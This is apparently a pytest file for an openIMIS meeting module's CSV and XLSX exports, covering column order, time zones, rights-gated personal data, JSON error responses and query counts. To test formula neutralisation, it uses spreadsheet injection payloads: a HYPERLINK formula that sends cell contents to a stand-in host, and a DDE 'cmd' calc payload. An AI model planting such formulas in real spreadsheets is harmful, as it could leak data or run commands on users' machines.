"""Exports over HTTP (/api/openimis_be_meeting/...csv|xlsx): columns in their documented order, values in words
with the event's offset, personal data only with its right, formulas neutralised, rights and refusals as JSON,
rows streamed with a fixed number of queries."""

import csv
import io
from datetime import datetime, timedelta

import openpyxl
import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test import Client
from django.test.utils import CaptureQueriesContext

from openimis_be_meeting.formats.tables.base import neutralise
from openimis_be_meeting.models import Event, Participant
from openimis_be_meeting.services import OrganisationService, SessionService

from factories import PASSWORD, future, make_user, open_event, register
from frontend import REST, logged_in, rest_get
from showcase_setup import advance, build_world, integration, make_showcase, ok

BASE_HEADER = [
    "ID",
    "Last name",
    "First name",
    "Organisation",
    "Organisation acronym",
    "Organisation type",
    "Job title",
    "Country",
    "Country name",
    "Role",
    "Participation mode",
    "Status",
    "Waiting-list position",
    "Registered at",
    "Status changed at",
    "Agrees to be listed",
    "Agrees to photos",
    "Agrees to be contacted",
    "Rejection reason",
]
PERSONAL_HEADER = ["Email", "Phone", "Gender", "Accessibility needs", "Dietary needs", "Check-in code"]
SHOWCASE_HEADER = [
    "ID",
    "Title",
    "Status",
    "Lead organisation",
    "Partner organisations",
    "Presenters",
    "Scheme",
    "Scheme type",
    "Use cases",
    "Countries",
    "Country names",
    "Demo type",
    "Starts at",
    "Ends at",
    "Integrations",
    "Media links",
    "Abstract",
    "Decision note",
    "Review round",
    "Status changed at",
]
DECISION_HEADER = ["Reviews (current round)", "Mean score (current round)"]
AGENDA_HEADER = [
    "ID",
    "Starts at",
    "Ends at",
    "Title",
    "Type",
    "Room",
    "Languages",
    "Interpretation into",
    "Capacity",
    "Speakers",
    "Chairs",
    "Showcases",
    "Description",
]
PAIR_HEADER = [
    "System A",
    "System A type",
    "System B",
    "System B type",
    "Standards",
    "Directions",
    "Best evidence level",
    "Showcases",
    "Showcase IDs",
    "Progress by event",
]
SYSTEM_STANDARD_HEADER = [
    "System",
    "System type",
    "Standard",
    "Standard name",
    "Best evidence level",
    "Showcases",
    "Showcase IDs",
    "Progress by event",
]
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-2", "@SUM(A1:A9)"]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# -- helpers --------------------------------------------------------------------------------------------------------


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    data = body(response)
    assert data.startswith(b"\xef\xbb\xbf")  # the byte order mark Excel needs for UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_sheet(response):
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == XLSX
    return openpyxl.load_workbook(io.BytesIO(body(response))).active


def xlsx_rows(response) -> list[list]:
    return [list(row) for row in xlsx_sheet(response).iter_rows(values_only=True)]


def as_dicts(rows) -> list[dict]:
    header, *data = rows
    return [dict(zip(header, row, strict=True)) for row in data]


def refusal(response, status: int, code: str, field=None):
    assert response.status_code == status, body(response)
    assert response["Content-Type"] == "application/json"
    payload = response.json()
    assert (payload["code"], payload["field"]) == (code, field), payload
    assert payload["message"]
    return payload


def count_queries(session, path, **params) -> int:
    with CaptureQueriesContext(connection) as captured:
        response = rest_get(session, path, **params)
        assert response.status_code == 200
        body(response)
    return len(captured.captured_queries)


def is_iso_in_douala(text: str) -> bool:
    return text.endswith("+01:00") and datetime.fromisoformat(text).utcoffset() == timedelta(hours=1)


# -- participants ---------------------------------------------------------------------------------------------------


@pytest.fixture
def event(admin):
    """An open event in Yaoundé (Africa/Douala, UTC+1) with two seats: two confirmed people, the rest waitlisted."""
    event = open_event(admin, capacity=2)
    organisation = ok(
        OrganisationService(admin).create(
            {"name": "Ministère de la Santé Publique", "acronym": "MINSANTE", "organisation_type": "MINISTRY"}
        )
    )
    ok(
        register(
            admin,
            event,
            1,
            first_name="Amina",
            last_name="Bello",
            phone="+237 699 00 00 01",
            gender="FEMALE",
            organisation_id=organisation,
            job_title="Cheffe de service",
            country="CM",
            role="SPEAKER",
            consent_listed=True,
            dietary_needs="Halal",
            accessibility_needs="Wheelchair access",
        )
    )
    ok(register(admin, event, 2, first_name="Éloïse", last_name="Ngono"))
    for number, name in enumerate(FORMULAS, start=3):
        ok(register(admin, event, number, first_name=name, last_name="Zz" + str(number)))
    return event


def participants(session, event, extension="csv", **params):
    return rest_get(session, f"events/{event.id}/participants.{extension}", **params)


@pytest.mark.django_db
def test_participants_csv_without_the_personal_data_right_has_no_personal_columns(event):
    make_user("Registrar", rights=["216001"])
    response = participants(logged_in("Registrar", PASSWORD), event)

    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Disposition"] == 'attachment; filename="cm-yaounde-participants.csv"'
    assert response["Cache-Control"] == "private, no-store"
    rows = csv_rows(response)
    assert rows[0] == BASE_HEADER
    amina, eloise, *formulas = as_dicts(rows)
    stored = Participant.objects.get(email="person1@example.cm")
    assert amina == {
        **amina,
        "ID": str(stored.id),
        "Last name": "Bello",
        "First name": "Amina",
        "Organisation": "Ministère de la Santé Publique",
        "Organisation acronym": "MINSANTE",
        "Organisation type": "Ministry",
        "Job title": "Cheffe de service",
        "Country": "CM",
        "Role": "Speaker",
        "Participation mode": "In person",
        "Status": "Confirmed",
        "Waiting-list position": "",
        "Agrees to be listed": "yes",
        "Agrees to photos": "no",
        "Agrees to be contacted": "no",
        "Rejection reason": "",
    }
    assert is_iso_in_douala(amina["Registered at"])
    assert (
        amina["Registered at"] == (stored.registered_at + timedelta(hours=1)).isoformat(timespec="seconds") + "+01:00"
    )
    assert (eloise["First name"], eloise["Status"]) == ("Éloïse", "Confirmed")
    assert [(row["Status"], row["Waiting-list position"]) for row in formulas] == [
        ("Waiting list", str(position)) for position in (1, 2, 3, 4)
    ]
    text = body(participants(logged_in("Registrar", PASSWORD), event)).decode("utf-8-sig")
    assert "@example.cm" not in text and "+237" not in text and "Halal" not in text and stored.checkin_token not in text


@pytest.mark.django_db
def test_participants_csv_with_the_personal_data_right_ends_with_the_personal_columns(event):
    make_user("Organiser", rights=["216001", "216006"])
    rows = csv_rows(participants(logged_in("Organiser", PASSWORD), event))

    assert rows[0] == BASE_HEADER + PERSONAL_HEADER
    amina = as_dicts(rows)[0]
    stored = Participant.objects.get(email="person1@example.cm")
    assert {key: amina[key] for key in PERSONAL_HEADER} == {
        "Email": "person1@example.cm",
        "Phone": "'+237 699 00 00 01",  # a leading + would start a formula
        "Gender": "Female",
        "Accessibility needs": "Wheelchair access",
        "Dietary needs": "Halal",
        "Check-in code": stored.checkin_token,
    }
    assert as_dicts(rows)[1]["Gender"] == ""


@pytest.mark.django_db
def test_participants_xlsx_both_ways_read_back_with_openpyxl(event):
    make_user("Registrar", rights=["216001"])
    make_user("Organiser", rights=["216001", "216006"])

    response = participants(logged_in("Registrar", PASSWORD), event, "xlsx")
    assert response["Content-Disposition"] == 'attachment; filename="cm-yaounde-participants.xlsx"'
    sheet = xlsx_sheet(response)
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == BASE_HEADER
    assert sheet.freeze_panes == "A2"
    amina = as_dicts(rows)[0]
    assert (amina["Status"], amina["Role"], amina["Agrees to be listed"], amina["Waiting-list position"]) == (
        "Confirmed",
        "Speaker",
        "yes",
        None,
    )
    assert is_iso_in_douala(amina["Registered at"])
    assert [row["Waiting-list position"] for row in as_dicts(rows)[2:]] == [1, 2, 3, 4]  # numbers stay numbers

    rows = xlsx_rows(participants(logged_in("Organiser", PASSWORD), event, "xlsx"))
    assert rows[0] == BASE_HEADER + PERSONAL_HEADER
    assert as_dicts(rows)[0]["Email"] == "person1@example.cm"


@pytest.mark.django_db
def test_formulas_are_neutralised_in_csv_and_xlsx(event, admin):
    session = logged_in("Admin", PASSWORD)
    expected = ["'" + formula for formula in FORMULAS]

    csv_names = [row["First name"] for row in as_dicts(csv_rows(participants(session, event)))[2:]]
    assert csv_names == expected

    sheet = xlsx_sheet(participants(session, event, "xlsx"))
    cells = [row[2] for row in sheet.iter_rows(min_row=4)]
    # Issue 14: the workbook holds the exact text, typed as text, instead of relying on an apostrophe.
    assert [cell.value for cell in cells] == FORMULAS
    assert {cell.data_type for cell in cells} == {"s"}  # text, never a formula ("f")
    assert {cell.number_format for cell in cells} == {"@"}


def test_neutralise_covers_every_formula_start():
    for text in ("=1+1", "+1", "-2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1+1"):
        assert neutralise(text) == "'" + text
    for text in ("Amina", "2026-12-25T10:00:00+01:00", "a=b", "", "'quoted"):
        assert neutralise(text) == text


@pytest.mark.django_db
def test_xlsx_drops_characters_a_workbook_cannot_hold(event, admin):
    Participant.objects.filter(email="person2@example.cm").update(dietary_needs="Veg\x01etarian\x0b", job_title="A\tB")
    rows = as_dicts(xlsx_rows(participants(logged_in("Admin", PASSWORD), event, "xlsx")))

    assert (rows[1]["Dietary needs"], rows[1]["Job title"]) == ("Vegetarian", "A\tB")


@pytest.mark.django_db
def test_participant_filters_mirror_graphql_and_bad_values_are_refused(event, admin):
    session = logged_in("Admin", PASSWORD)

    def names(**params):
        return [row["First name"] for row in as_dicts(csv_rows(participants(session, event, **params)))]

    assert names(status="CONFIRMED") == ["Amina", "Éloïse"]
    assert len(names(status="WAITLISTED,CONFIRMED")) == 6
    assert len(names(status=["WAITLISTED", "PENDING"])) == 4
    assert names(role="SPEAKER") == ["Amina"]
    assert names(country="cm") == ["Amina"]
    assert names(organisationType="MINISTRY") == ["Amina"]
    assert names(search="person2@example") == ["Éloïse"]  # email search with the personal-data right
    make_user("Registrar", rights=["216001"])
    registrar = logged_in("Registrar", PASSWORD)
    assert as_dicts(csv_rows(participants(registrar, event, search="person2@example"))) == []

    for params, field, code in [
        ({"status": "CONFIRMED,BOGUS"}, "status", "meeting.validation.invalid_choice"),
        ({"role": "KING"}, "role", "meeting.validation.invalid_choice"),
        ({"attendanceMode": "TELEPATHY"}, "attendanceMode", "meeting.validation.invalid_choice"),
        ({"organisationId": "not-an-id"}, "organisationId", "meeting.validation.invalid_id"),
        ({"country": "XX"}, "country", "meeting.validation.unknown_country"),
        ({"search": "x" * 101}, "search", "meeting.validation.too_long"),
        ({"language": "de"}, "language", "meeting.validation.invalid_choice"),
    ]:
        for extension in ("csv", "xlsx"):
            refusal(participants(session, event, extension, **params), 400, code, field)


@pytest.mark.django_db
def test_words_follow_the_language_asked_or_the_users_openimis_language(event, admin):
    session = logged_in("Admin", PASSWORD)
    rows = as_dicts(csv_rows(participants(session, event, language="fr")))
    assert (rows[0]["Status"], rows[0]["Role"], rows[0]["Organisation type"], rows[0]["Agrees to be listed"]) == (
        "Confirmé",
        "Intervenant",
        "Ministère",
        "oui",
    )
    assert rows[0]["Agrees to photos"] == "non"
    assert rows[2]["Status"] == "Liste d'attente"
    assert list(rows[0])[:3] == BASE_HEADER[:3]  # headers stay in English: scripts rely on them

    make_user("Amadou", rights=["216001"], language="fr")
    french = as_dicts(csv_rows(participants(logged_in("Amadou", PASSWORD), event)))
    assert french[0]["Status"] == "Confirmé"
    english = as_dicts(csv_rows(participants(logged_in("Amadou", PASSWORD), event, language="en")))
    assert english[0]["Status"] == "Confirmed"
    payload = refusal(
        rest_get(logged_in("Amadou", PASSWORD), f"events/{event.id}/agenda.csv"), 403, "meeting.auth.permission_denied"
    )
    assert payload["message"] == "Vous n'avez pas le droit de faire cela."
    payload = refusal(
        participants(logged_in("Amadou", PASSWORD), event, role="KING"),
        400,
        "meeting.validation.invalid_choice",
        "role",
    )
    assert payload["message"] == "KING n'est pas une valeur valide pour role."


# -- rights and refusals --------------------------------------------------------------------------------------------

EXPORTS = [
    ("participants", "216001"),
    ("showcases", "217001"),
    ("agenda", "215001"),
]


@pytest.mark.django_db
def test_unauthenticated_callers_get_401_and_callers_without_the_right_403(event, nobody):
    anonymous = Client()
    someone = logged_in("Nobody", PASSWORD)
    paths = [f"events/{event.id}/{name}.{extension}" for name, _right in EXPORTS for extension in ("csv", "xlsx")]
    paths += ["interoperability-matrix.csv", "interoperability-matrix.xlsx"]
    for path in paths:
        refusal(anonymous.get(REST + path), 401, "meeting.auth.authentication_required")
        refusal(
            anonymous.get(REST + path, HTTP_AUTHORIZATION="Bearer not.a.token"),
            401,
            "meeting.auth.authentication_required",
        )
        refusal(rest_get(someone, path), 403, "meeting.auth.permission_denied")


@pytest.mark.django_db
def test_each_export_needs_its_own_right(event):
    for _name, right in EXPORTS:
        make_user(f"Only{right}", rights=[right])
    for name, right in EXPORTS:
        for other_name, other_right in EXPORTS:
            response = rest_get(logged_in(f"Only{right}", PASSWORD), f"events/{event.id}/{other_name}.csv")
            if other_right == right:
                assert response.status_code == 200, (name, other_name)
                body(response)
            else:
                refusal(response, 403, "meeting.auth.permission_denied")
    refusal(
        rest_get(logged_in("Only216001", PASSWORD), "interoperability-matrix.csv"),
        403,
        "meeting.auth.permission_denied",
    )
    assert rest_get(logged_in("Only217001", PASSWORD), "interoperability-matrix.csv").status_code == 200


@pytest.mark.django_db
def test_a_bearer_token_works_as_the_cookie_does(event):
    make_user("Registrar", rights=["216001"])
    token = logged_in("Registrar", PASSWORD).http.cookies["JWT"].value

    response = Client().get(f"{REST}events/{event.id}/participants.csv", HTTP_AUTHORIZATION=f"Bearer {token}")

    assert csv_rows(response)[0] == BASE_HEADER


@pytest.mark.django_db
def test_unknown_events_are_404_malformed_ids_400_and_always_json(event, admin):
    session = logged_in("Admin", PASSWORD)
    unknown = "0f0f0f0f-0000-4000-8000-000000000000"
    Event.objects.filter(id=event.id).update(is_deleted=True)
    for name, _right in EXPORTS:
        for extension in ("csv", "xlsx"):
            for event_id in (unknown, event.id):
                payload = refusal(
                    rest_get(session, f"events/{event_id}/{name}.{extension}"),
                    404,
                    "meeting.event.not_found",
                    "eventId",
                )
                assert str(event_id) in payload["message"]
            refusal(
                rest_get(session, f"events/nope/{name}.{extension}"), 400, "meeting.validation.invalid_id", "eventId"
            )
    refusal(
        rest_get(session, "interoperability-matrix.csv", eventId=unknown), 400, "meeting.event.not_found", "eventId"
    )


@pytest.mark.django_db
def test_downloads_ignore_the_accept_header_and_errors_stay_json(event, admin):
    session = logged_in("Admin", PASSWORD)
    path = f"{REST}events/{event.id}/participants.csv"

    assert csv_rows(session.http.get(path, HTTP_ACCEPT="text/csv"))[0][:2] == ["ID", "Last name"]
    assert xlsx_rows(session.http.get(path.replace(".csv", ".xlsx"), HTTP_ACCEPT=XLSX))[0][0] == "ID"
    refusal(Client().get(path, HTTP_ACCEPT="text/html"), 401, "meeting.auth.authentication_required")
    refusal(
        session.http.get(path, {"status": "NOPE"}, HTTP_ACCEPT="text/csv"),
        400,
        "meeting.validation.invalid_choice",
        "status",
    )
    refusal(session.http.post(path, HTTP_X_CSRFTOKEN=session.csrf_token), 405, "meeting.http.refused")


# -- queries and streaming ------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_participant_exports_cost_the_same_queries_for_5_or_30_rows(admin):
    event = open_event(admin, capacity=None)
    organisation = ok(OrganisationService(admin).create({"name": "GIZ", "organisation_type": "IMPLEMENTER"}))
    session = logged_in("Admin", PASSWORD)
    for number in range(5):
        ok(register(admin, event, number, organisation_id=organisation))
    few = {
        extension: count_queries(session, f"events/{event.id}/participants.{extension}")
        for extension in ("csv", "xlsx")
    }
    for number in range(5, 30):
        ok(register(admin, event, number, organisation_id=organisation if number % 2 else None))

    many = {
        extension: count_queries(session, f"events/{event.id}/participants.{extension}")
        for extension in ("csv", "xlsx")
    }
    assert many == few
    assert len(csv_rows(rest_get(session, f"events/{event.id}/participants.csv"))) == 31


@pytest.mark.django_db
def test_csv_rows_are_read_while_the_response_streams(event, admin):
    session = logged_in("Admin", PASSWORD)
    with CaptureQueriesContext(connection) as captured:
        response = participants(session, event)
    assert isinstance(response, StreamingHttpResponse) and response.streaming
    table = Participant._meta.db_table
    assert not any(table in query["sql"] for query in captured)
    with CaptureQueriesContext(connection) as captured:
        assert len(csv_rows(response)) == 7
    assert any(table in query["sql"] for query in captured)


# -- showcases ------------------------------------------------------------------------------------------------------


@pytest.fixture
def world(admin):
    return build_world(admin)


@pytest.fixture
def reviewer(db):
    return make_user("Reviewer", rights=["217005"])


def showcases(session, world, extension="csv", **params):
    return rest_get(session, f"events/{world.event.id}/showcases.{extension}", **params)


@pytest.mark.django_db
def test_showcases_export_in_words_with_review_columns_only_for_deciders(admin, world, reviewer):
    scheduled = advance(
        admin,
        reviewer,
        make_showcase(
            admin,
            world,
            title="=cmd|' /C calc'!A0",
            presenter_ids=world.presenters[:2],
            integrations=[
                integration(world),
                integration(world, "openimis", "dhis2", "adx", "IN_PRODUCTION", direction="BOTH", mode="BATCH"),
            ],
            media_links=["https://example.org/demo"],
        ),
        "SCHEDULED",
        slot=(future(30, 10), future(30, 11)),
    )
    make_showcase(admin, world, title="A draft", integrations=[])
    make_user("Viewer", rights=["217001"])

    rows = csv_rows(showcases(logged_in("Viewer", PASSWORD), world))
    assert rows[0] == SHOWCASE_HEADER
    first, draft = as_dicts(rows)
    assert first == {
        **first,
        "ID": str(scheduled.id),
        "Title": "'=cmd|' /C calc'!A0",
        "Status": "Scheduled",
        "Lead organisation": "Deutsche Gesellschaft für Internationale Zusammenarbeit",
        "Partner organisations": "Ministère de la Santé Publique",
        "Presenters": "Person100 Presenter0; Person101 Presenter1",
        "Scheme": "Chèque Santé",
        "Scheme type": "Health voucher",
        "Use cases": "Claims; Reporting",
        "Countries": "CM",
        "Country names": "Cameroon",
        "Demo type": "Live demonstration",
        "Integrations": "openIMIS Cameroon → PBF portal (FHIR-R4, Real time, Demonstrated live); "
        "openIMIS Cameroon ↔ DHIS2 Cameroon (DHIS2-ADX, Batch, In production)",
        "Media links": "https://example.org/demo",
        "Review round": "1",
    }
    assert is_iso_in_douala(first["Starts at"]) and is_iso_in_douala(first["Ends at"])
    assert datetime.fromisoformat(first["Starts at"]).hour == 11  # 10:00 UTC
    assert (draft["Title"], draft["Status"], draft["Starts at"], draft["Integrations"]) == ("A draft", "Draft", "", "")

    make_user("Decider", rights=["217001", "217006"])
    rows = xlsx_rows(showcases(logged_in("Decider", PASSWORD), world, "xlsx"))
    assert rows[0] == SHOWCASE_HEADER + DECISION_HEADER
    first, draft = as_dicts(rows)
    assert (first["Reviews (current round)"], first["Mean score (current round)"]) == (1, 4)
    assert (draft["Reviews (current round)"], draft["Mean score (current round)"]) == (0, None)
    assert as_dicts(csv_rows(showcases(logged_in("Decider", PASSWORD), world, status="DRAFT")))[0]["Title"] == "A draft"
    refusal(
        showcases(logged_in("Decider", PASSWORD), world, status="FINISHED"),
        400,
        "meeting.validation.invalid_choice",
        "status",
    )


@pytest.mark.django_db
def test_showcase_and_agenda_exports_cost_the_same_queries_for_more_rows(admin, world, reviewer):
    session = logged_in("Admin", PASSWORD)
    make_showcase(admin, world)
    agenda = {
        "event_id": str(world.event.id),
        "session_type": "PANEL",
        "speaker_ids": [world.presenters[0]],
        "chair_ids": [world.presenters[1]],
    }
    ok(SessionService(admin).create({**agenda, "title": "S0", "starts_at": future(30, 9), "ends_at": future(30, 10)}))
    paths = [
        f"events/{world.event.id}/{name}.{extension}"
        for name in ("showcases", "agenda")
        for extension in ("csv", "xlsx")
    ]
    few = [count_queries(session, path) for path in paths]
    for number in range(1, 5):
        advance(admin, reviewer, make_showcase(admin, world, title=f"More {number}"), "UNDER_REVIEW")
        ok(
            SessionService(admin).create(
                {
                    **agenda,
                    "title": f"S{number}",
                    "starts_at": future(31, 8 + number),
                    "ends_at": future(31, 9 + number),
                    "showcase_ids": [],
                }
            )
        )

    assert [count_queries(session, path) for path in paths] == few


# -- agenda ---------------------------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_agenda_export(admin, world):
    reviewer = make_user("AgendaReviewer", rights=["217005"])
    showcase = advance(admin, reviewer, make_showcase(admin, world, title="PBF demo"), "ACCEPTED")
    plenary = ok(
        SessionService(admin).create(
            {
                "event_id": str(world.event.id),
                "title": "Opening plenary",
                "session_type": "PLENARY",
                "starts_at": future(30, 8),
                "ends_at": future(30, 9),
                "room": "Salle des Fêtes",
                "languages": ["fr", "en"],
                "interpretation": ["en"],
                "capacity": 200,
                "speaker_ids": world.presenters[:2],
                "chair_ids": [world.presenters[2]],
                "showcase_ids": [str(showcase.id)],
                "description": "-- welcome --",
            }
        )
    )
    ok(
        SessionService(admin).create(
            {
                "event_id": str(world.event.id),
                "title": "Coffee",
                "session_type": "BREAK",
                "starts_at": future(30, 9),
                "ends_at": future(30, 10),
            }
        )
    )
    make_user("Viewer", rights=["215001"])

    response = rest_get(logged_in("Viewer", PASSWORD), f"events/{world.event.id}/agenda.csv")
    assert response["Content-Disposition"] == 'attachment; filename="yde-show-agenda.csv"'
    rows = csv_rows(response)
    assert rows[0] == AGENDA_HEADER
    opening, coffee = as_dicts(rows)
    assert opening == {
        **opening,
        "ID": plenary,
        "Title": "Opening plenary",
        "Type": "Plenary",
        "Room": "Salle des Fêtes",
        "Languages": "fr; en",
        "Interpretation into": "en",
        "Capacity": "200",
        "Speakers": "Person100 Presenter0; Person101 Presenter1",
        "Chairs": "Person102 Presenter2",
        "Showcases": "PBF demo",
        "Description": "'-- welcome --",
    }
    assert opening["Starts at"] == (future(30, 8) + timedelta(hours=1)).replace(tzinfo=None).isoformat() + "+01:00"
    assert (coffee["Type"], coffee["Speakers"], coffee["Capacity"]) == ("Break", "", "")

    sheet = as_dicts(xlsx_rows(rest_get(logged_in("Viewer", PASSWORD), f"events/{world.event.id}/agenda.xlsx")))
    assert (sheet[0]["Capacity"], sheet[1]["Capacity"], sheet[1]["Type"]) == (200, None, "Break")
    filtered = rest_get(logged_in("Viewer", PASSWORD), f"events/{world.event.id}/agenda.csv", sessionType="BREAK")
    assert [row["Title"] for row in as_dicts(csv_rows(filtered))] == ["Coffee"]
    speaking = rest_get(
        logged_in("Viewer", PASSWORD), f"events/{world.event.id}/agenda.csv", speakerId=world.presenters[1]
    )
    assert [row["Title"] for row in as_dicts(csv_rows(speaking))] == ["Opening plenary"]
    refusal(
        rest_get(logged_in("Viewer", PASSWORD), f"events/{world.event.id}/agenda.csv", sessionType="NAP"),
        400,
        "meeting.validation.invalid_choice",
        "sessionType",
    )


# -- interoperability matrix ----------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_matrix_export_pairs_and_system_standard_tables(admin, world, reviewer):
    accepted = advance(
        admin,
        reviewer,
        make_showcase(
            admin,
            world,
            integrations=[
                integration(world),
                integration(world, "pbf", "openimis", "fhir", "IN_PRODUCTION"),
                integration(world, "openimis", "dhis2", "adx", "CLAIMED"),
            ],
        ),
        "ACCEPTED",
    )
    make_showcase(admin, world, title="Draft, not counted", integrations=[integration(world, "registry", "dhis2")])
    make_user("Viewer", rights=["217001"])
    viewer = logged_in("Viewer", PASSWORD)

    rows = csv_rows(rest_get(viewer, "interoperability-matrix.csv"))
    assert rows[0] == PAIR_HEADER
    assert as_dicts(rows) == [
        {
            "System A": "DHIS2 Cameroon",
            "System A type": "DHIS2",
            "System B": "openIMIS Cameroon",
            "System B type": "openIMIS instance",
            "Standards": "DHIS2-ADX",
            "Directions": "openIMIS Cameroon → DHIS2 Cameroon",
            "Best evidence level": "Claimed",
            "Showcases": "1",
            "Showcase IDs": str(accepted.id),
            "Progress by event": "YDE-SHOW: Claimed (1)",
        },
        {
            "System A": "openIMIS Cameroon",
            "System A type": "openIMIS instance",
            "System B": "PBF portal",
            "System B type": "Performance Based Financing platform",
            "Standards": "FHIR-R4",
            "Directions": "openIMIS Cameroon ↔ PBF portal",
            "Best evidence level": "In production",
            "Showcases": "1",
            "Showcase IDs": str(accepted.id),
            "Progress by event": "YDE-SHOW: In production (1)",
        },
    ]
    by_standard = xlsx_rows(rest_get(viewer, "interoperability-matrix.xlsx", table="bySystemStandard"))
    assert by_standard[0] == SYSTEM_STANDARD_HEADER
    assert [(row[0], row[2], row[4], row[5]) for row in by_standard[1:]] == [
        ("DHIS2 Cameroon", "DHIS2-ADX", "Claimed", 1),
        ("openIMIS Cameroon", "DHIS2-ADX", "Claimed", 1),
        ("openIMIS Cameroon", "FHIR-R4", "In production", 1),
        ("PBF portal", "FHIR-R4", "In production", 1),
    ]

    response = rest_get(viewer, "interoperability-matrix.csv", eventId=str(world.event.id), statuses="DRAFT")
    assert response["Content-Disposition"] == 'attachment; filename="interoperability-matrix-yde-show.csv"'
    assert [row["Standards"] for row in as_dicts(csv_rows(response))] == ["FHIR-R4"]  # the draft's registry-DHIS2 link
    assert (
        as_dicts(csv_rows(rest_get(viewer, "interoperability-matrix.csv", standardId=world.standards["adx"])))[0][
            "System A"
        ]
        == "DHIS2 Cameroon"
    )
    for params, field, code in [
        ({"table": "everything"}, "table", "meeting.validation.invalid_choice"),
        ({"statuses": "ACCEPTED,LOST"}, "statuses", "meeting.validation.invalid_choice"),
        ({"useCase": "FUN"}, "useCase", "meeting.validation.invalid_choice"),
        ({"standardId": "x"}, "standardId", "meeting.validation.invalid_id"),
        ({"eventId": "x"}, "eventId", "meeting.validation.invalid_id"),
    ]:
        refusal(rest_get(viewer, "interoperability-matrix.xlsx", **params), 400, code, field)


@pytest.mark.django_db
def test_errors_are_json_whatever_the_client_accepts(admin):
    from django.test import Client

    event_path = "/api/openimis_be_meeting/events/0f0f0f0f-0000-4000-8000-000000000000/participants.csv"
    for accept in ("text/html", "text/csv", "application/xml"):
        response = Client().get(event_path, HTTP_ACCEPT=accept)
        assert response.status_code == 401, accept
        assert response["Content-Type"].startswith("application/json"), accept
        assert response.json()["code"] == "meeting.auth.authentication_required"
